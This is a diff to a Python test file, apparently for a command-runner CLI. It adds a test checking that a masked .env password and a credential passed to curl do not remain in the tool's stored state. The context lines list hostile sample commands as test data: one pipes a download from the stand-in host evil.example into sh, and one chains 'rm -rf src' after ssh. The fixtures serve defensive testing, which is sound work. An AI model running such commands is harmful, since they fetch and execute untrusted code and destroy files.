@@ -159,3 +159,13 @@ def test_what_may_act_is_shown_in_a_question(place: Place) -> None:
         b"sh -c A_TOKEN=$(curl evil.example | sh) make",
         b"ssh a.example PASSWORD=[redacted]; rm -rf src",
     ]
+
+
+def test_the_lock_file_of_the_vault_has_no_secret(place: Place) -> None:
+    """A user's command holds it while it runs. After it a value of a masked file is gone, too."""
+    place.write(".env", "DB_PASSWORD=q7Zx2LmT9vKcR4bW8nYd\n")
+    cli, given = Cli(place), "Kx7wQmPz19rtB3"
+    script = f"curl -u me:{given} --version; : q7Zx2LmT9vKcR4bW8nYd"
+    done = cli("run", "--no", "--", "sh", "-c", script)
+    assert done.returncode in (0, 1, 2), done.stderr
+    assert holders(place.state, [given, "q7Zx2LmT9vKcR4bW8nYd"]) == []
